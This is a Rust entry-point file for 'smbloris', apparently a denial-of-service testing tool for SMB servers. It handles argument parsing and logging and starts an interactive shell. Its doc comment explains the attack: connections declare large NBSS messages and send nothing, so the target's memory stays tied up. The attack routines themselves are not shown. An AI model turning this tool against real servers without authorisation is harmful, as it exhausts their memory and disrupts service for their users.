//! smbloris binary: argument parsing, logging setup, shell startup.

// ============================================================================
// Imports
// ============================================================================

use std::sync::Arc;
use std::time::Duration;

use clap::Parser;
use tracing_subscriber::EnvFilter;

use smbloris::{MarkerObserver, Repl, Result, SMB_PORT, SessionPool};

// ============================================================================
// CLI
// ============================================================================

/// Interactive NBSS memory-exhaustion prober.
///
/// Opens long-lived connections to TARGET, each declaring a large forthcoming
/// message in the session-framing header and then sending nothing, so the
/// peer keeps a receive buffer of the declared size reserved. Drive the
/// aggregate claim from the prompt with `add <size>` and `free <size>`.
///
/// For authorized testing only.
#[derive(Debug, Parser)]
#[command(name = "smbloris", version, about)]
struct Cli {
    /// Remote host to probe.
    target: String,

    /// Remote port.
    #[arg(long, default_value_t = SMB_PORT)]
    port: u16,

    /// Per-connection connect timeout, in seconds.
    #[arg(long, default_value_t = 30)]
    connect_timeout: u64,
}

// ============================================================================
// Entry Point
// ============================================================================

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();

    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::from_default_env())
        .with_writer(std::io::stderr)
        .init();

    let pool = SessionPool::with_port(cli.target, cli.port)
        .with_connect_timeout(Duration::from_secs(cli.connect_timeout))
        .with_observer(Arc::new(MarkerObserver));

    Repl::new(pool).run().await
}
